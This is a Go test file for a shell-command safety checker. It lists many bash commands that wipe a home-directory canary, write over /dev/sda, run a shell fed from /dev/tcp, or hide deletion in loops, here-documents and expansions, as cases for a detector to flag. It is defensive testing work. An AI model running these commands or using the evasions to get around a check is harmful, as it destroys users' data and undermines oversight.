package shell

import (
	"os"
	"path/filepath"
	"testing"
)

// TestStatementsAndRedirects: every compound command's parts are checked
// (loops, case, time, coproc, [[ ]], (( )), let, C-style for); every
// redirection operator that writes reaches a disk device; and stdin is
// what the redirections leave it, in order, for the descriptor they name:
// a here-document to a block, a loop or a function call, another
// descriptor's redirection,
// a process substitution, /dev/stdin, <&N and <&- each change what a
// shell reading stdin runs. A file read as stdin is not read, as a script
// file operand is not.
func TestStatementsAndRedirects(t *testing.T) {
	l, at := newLayout(t)
	const (
		out    = ReasonDeleteOutside
		opaque = ReasonOpaque
		disk   = ReasonDisk
	)
	for _, tc := range []struct {
		cmd  string
		want Reason // "" when the command must not ask
	}{
		// Compound commands.
		{"while true; do rm -rf ~/canary; done", out}, {"until false; do rm -rf ~/canary; done", out},
		{"while rm -rf ~/canary; do :; done", out}, {"while read -r f; do rm -f \"$f\"; done < list.txt", ""},
		{"case x in x) rm -rf ~/canary;; esac", out}, {"case $(rm -rf ~/canary) in *) :;; esac", out},
		{"case $x in a) cd ~/canary;; b) cd build;; esac; rm -rf ./*", out},
		{"case $x in a) cd build;; b) cd build;; esac; rm -rf ./*", ""},
		{"time rm -rf ~/canary", out}, {"time -p rm -rf ~/canary", out},
		{"coproc rm -rf ~/canary", out}, {"coproc c { rm -rf ~/canary; }", out},
		{"[[ -n $(rm -rf ~/canary) ]]", out}, {"(( $(rm -rf ~/canary) ))", out}, {"let x=$(rm -rf ~/canary)", out},
		{"for ((i=$(rm -rf ~/canary); i<1; i++)); do :; done", out}, {"for f in $(rm -rf ~/canary); do :; done", out},
		{"for ((i=0; i<3; i++)); do echo $i; done", ""}, {"[[ -d build ]] && rm -rf build", ""},
		{"> /dev/sda", disk}, {"> out.txt", ""},
		// Each redirection that writes, on any descriptor.
		{"echo x >> /dev/sda", disk}, {"echo x >| /dev/sda", disk}, {"echo x &> /dev/sda", disk},
		{"echo x &>> /dev/sda", disk}, {"cat <> /dev/sda", disk}, {"echo x >& /dev/sda", disk},
		{"echo x 2> /dev/sda", disk}, {"echo x >> log.txt", ""}, {"echo x >&2", ""}, {"cat <> log.txt", ""},
		// A here-document with <<- (leading tabs removed).
		{"bash <<-EOF\n\trm -rf ~/canary\n\tEOF", out}, {"bash <<-EOF\n\techo hi\n\tEOF", ""},
		// An unquoted delimiter expands the body first; a quoted one
		// passes it as written.
		{"bash <<EOF\nrm -rf $HOME/proj/build\nEOF", ""},
		{"bash <<'EOF'\nrm -rf $HOME/canary\nEOF", out}, {"cat <<'EOF'\n$(rm -rf ~/canary)\nEOF", ""},
		// Another descriptor's redirection leaves stdin alone.
		{"echo 'rm -rf ~/canary' | bash 3</dev/null", opaque},
		{"echo 'rm -rf ~/canary' | bash 3<<EOF\nls\nEOF", opaque},
		{"bash <<EOF 3</dev/null\nrm -rf ~/canary\nEOF", out},
		{"bash 0<<EOF\nrm -rf ~/canary\nEOF", out},
		// Streams the check cannot see.
		{"bash < <(echo 'rm -rf ~/canary')", opaque}, {"bash 0< <(echo x)", opaque},
		{"bash < /dev/tcp/example.com/80", opaque}, {"bash < /dev/fd/3", opaque}, {"bash < /proc/1/fd/0", opaque},
		{"bash <&3", opaque}, {`bash < "$F"`, opaque}, {"bash < ./*.sh", opaque},
		{"echo 'rm -rf ~/canary' | bash < /dev/stdin", opaque}, {"echo 'rm -rf ~/canary' | bash <&0", opaque},
		{"bash <<EOF </dev/stdin\nrm -rf ~/canary\nEOF", out}, {"bash <<EOF <&0\nrm -rf ~/canary\nEOF", out},
		{"bash <<EOF 0<&0\necho hi\nEOF", ""},
		{"echo 'rm -rf ~/canary' | bash <&-", ""},
		// A file as stdin replaces the pipe or here-document before it.
		{"bash < ./script.sh", ""}, {"echo 'rm -rf ~/canary' | bash < ./script.sh", ""},
		{"echo 'rm -rf ~/canary' | bash <> ./script.sh", ""},
		{"bash <<EOF < ./script.sh\nrm -rf ~/canary\nEOF", ""},
		// A block's or a loop's stdin reaches the shells inside.
		{"{ bash; } <<EOF\nrm -rf ~/canary\nEOF", opaque}, {"(bash) < <(echo x)", opaque},
		{"while read -r l; do bash; done < <(echo x)", opaque}, {"{ bash; } < ./script.sh", ""},
		{"{ cat; } <<EOF\nrm -rf ~/canary\nEOF", ""}, {"echo x | { bash; } < ./script.sh", ""},
		// So does a function's or an alias's.
		{"f() { bash; }; f < <(echo x)", opaque}, {"f() { bash; }; f <<EOF\nrm -rf ~/canary\nEOF", opaque},
		{"shopt -s expand_aliases; alias b=bash; b <<EOF\nrm -rf ~/canary\nEOF", opaque},
		{"f() { bash; } < <(echo x); f", opaque}, {"f() { cat; }; f <<EOF\nrm -rf ~/canary\nEOF", ""},
		{"f() { bash; }; f < ./script.sh", ""},
		// Variables a script may assign under a computed name.
		{"n=DIR; read TMP$n <<< ~; rm -rf $TMPDIR/canary", out},
		{"GIT_PAGER=less$X git log", opaque}, {"GIT_PAGER=less git log", ""},
		// A prompt expansion runs the command substitutions of its value.
		{`X='$(rm -rf ~/canary)'; echo "${X@P}"`, opaque}, {`[[ ${PS1@P} ]]`, opaque},
		{`echo "${X@Q}" "${X@U}"`, ""},
	} {
		got, why := Destructive(tc.cmd, at)
		if got != (tc.want != "") || why != tc.want {
			t.Errorf("Destructive(%q) = %v, %q; want %q", tc.cmd, got, why, tc.want)
		}
	}
	// A find over a parent of a workspace inside the temp directory runs
	// its command for every entry: the workspace among them.
	ws := filepath.Join(l.tmp, "a", "proj")
	if err := os.MkdirAll(ws, 0o755); err != nil {
		t.Fatal(err)
	}
	deep := Place{Cwd: ws, Env: []string{"HOME=" + l.home, "TMPDIR=" + l.tmp}}
	for _, tc := range []struct {
		cmd  string
		want Reason
	}{
		{"find " + filepath.Dir(ws) + " -exec sh -c 'rm -r \"$1\"' _ {} ';'", out},
		{"find " + filepath.Dir(ws) + " -exec chmod -R 777 {} +", ReasonPermOutside},
		{"find " + filepath.Join(l.tmp, "b") + " -exec sh -c 'rm -r \"$1\"' _ {} ';'", ""},
	} {
		if got, why := Destructive(tc.cmd, deep); got != (tc.want != "") || why != tc.want {
			t.Errorf("workspace in TMPDIR: Destructive(%q) = %v, %q; want %q", tc.cmd, got, why, tc.want)
		}
	}
}
